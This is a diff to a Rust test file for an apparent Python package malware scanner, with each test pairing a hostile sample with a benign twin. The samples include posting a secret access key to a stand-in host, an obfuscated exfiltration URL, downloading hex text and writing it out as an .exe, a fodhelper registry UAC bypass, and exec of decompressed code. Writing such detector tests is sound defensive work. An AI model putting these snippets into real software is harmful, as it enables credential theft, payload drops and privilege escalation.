@@ -1,11 +1,9 @@
 //! Python techniques, each as an inert text of our own: the deed is found, its innocent twin is not.
 
-mod common;
-
-use common::{scan_one, write};
+use crate::common::{found, innocent, scan_one, write};
 use doorward_protocol::{Finding, PackageReport, Severity, Verdict};
 
-const METADATA: &str = "Metadata-Version: 2.1\nName: made-up\nVersion: 1.2.0\nSummary: helps\n";
+const METADATA: &str = "Metadata-Version: 2.1\nName: made-up\nVersion: 1.2.0\nSummary: helps\nHome-page: https://files.invalid/made-up\n";
 
 /// An sdist whose only module is this text.
 fn module(source: &str) -> PackageReport {
@@ -20,17 +18,6 @@ fn package(files: &[(&str, &str)]) -> PackageReport {
     write(folder.path(), &[("PKG-INFO", METADATA)]);
     write(folder.path(), files);
     scan_one(folder.path())
-}
-
-#[track_caller]
-fn found(report: &PackageReport, rule: &str) {
-    assert!(report.verdict >= Verdict::Suspicious, "{report:#?}");
-    assert!(report.findings.iter().any(|finding| finding.rule == rule), "no {rule}: {:#?}", report.findings);
-}
-
-#[track_caller]
-fn innocent(report: &PackageReport) {
-    assert!(report.verdict <= Verdict::Notable, "{:#?}", report.findings);
 }
 
 #[test]
@@ -142,6 +129,61 @@ fn code_from_the_standard_input_is_its_senders() {
     let carried =
         "import zlib\nexec(compile(zlib.decompress(open('data.bin', 'rb').read()), 'data', 'exec'))\n";
     found(&module(carried), "M-02");
+}
+
+#[test]
+fn the_key_of_what_is_handed_in_is_a_key() {
+    let sent = "import requests\nclass Client:\n    def __init__(self, config):\n        self.config = config\n        \
+        requests.post('https://files.invalid/in', json={'key': config.access_key_secret})\n";
+    found(&module(sent), "R-14");
+    innocent(&module(&sent.replace("config.access_key_secret", "config.language")));
+}
+
+#[test]
+fn a_default_that_is_spelt_in_code_is_where_it_goes() {
+    let sent = "import os, requests\ndef client(first, second):\n    \
+        code = 'ql2glodyql1vholi22=vswwk'\n    \
+        place = os.environ.get('MADE_UP_PLACE', ''.join(chr(ord(c) - 3) for c in code[::-1]))\n    \
+        form = {'day': first, 'month': second}\n    \
+        requests.post(place, data=form)\n";
+    found(&module(sent), "O-13");
+    let plain = sent.replace("''.join(chr(ord(c) - 3) for c in code[::-1])", "'https://files.invalid/in'");
+    innocent(&module(&plain));
+}
+
+#[test]
+fn data_that_nobody_runs_or_sends_is_data() {
+    let table =
+        format!("TABLE = bytes.fromhex('{}')\nprint(TABLE[:4], len(TABLE))\n", "30825fa0ffb2".repeat(60));
+    innocent(&module(&table));
+}
+
+#[test]
+fn what_a_caller_hands_in_encoded_is_no_payload() {
+    let keytab = "import base64, subprocess, tempfile\nclass Hook:\n    def place(self, text):\n        \
+        path = tempfile.gettempdir() + '/keytab'\n        with open(path, 'wb') as file:\n            \
+        file.write(base64.b64decode(text))\n        return path\n    def run(self, settings, program):\n        \
+        subprocess.Popen([program, '--keytab', self.place(settings.keytab)])\n";
+    innocent(&module(keytab));
+}
+
+#[test]
+fn a_program_that_travels_as_text_is_told() {
+    let dropped = "import binascii, requests\ndef begin():\n    \
+        answer = requests.get('https://files.invalid/notes.txt')\n    \
+        with open('C:/Users/Public/c1.exe', 'wb') as file:\n        \
+        file.write(binascii.unhexlify(answer.text.encode()))\n";
+    found(&module(dropped), "M-01");
+    innocent(&module(&dropped.replace("c1.exe", "notes.csv")));
+}
+
+#[test]
+fn a_way_past_the_question_for_rights_is_told() {
+    let bypass = "import subprocess, winreg\ndef raise_rights(command):\n    \
+        key = winreg.CreateKey(winreg.HKEY_CURRENT_USER, r'Software\\Classes\\ms-settings\\shell\\open\\command')\n    \
+        winreg.SetValueEx(key, None, 0, winreg.REG_SZ, command)\n    subprocess.run(['fodhelper.exe'])\n";
+    found(&module(bypass), "R-29");
+    innocent(&module(&bypass.replace("ms-settings", "made-up").replace("fodhelper", "notepad")));
 }
 
 #[test]
@@ -358,4 +400,13 @@ fn a_version_in_what_is_sent_and_a_group_of_listeners_are_no_bare_address() {
         s.connect(('239.255.255.250', 1900))\n";
     assert!(!told(search));
     assert!(told(&search.replace("239.255.255.250", "203.0.113.7")));
+}
+
+#[test]
+fn a_command_that_only_the_environment_knows_is_told_without_a_verdict() {
+    let told = module("import os\nname = os.getenv('MADE_UP_COMMAND')\nos.system(name)\n");
+    assert!(told.findings.iter().any(|finding| finding.rule == "M-01"), "{:#?}", told.findings);
+    innocent(&told);
+    let edits = module("import os\nos.system(os.environ['EDITOR'] + ' notes.txt')\n");
+    assert!(edits.findings.iter().all(|finding| finding.rule != "M-01"), "{:#?}", edits.findings);
 }
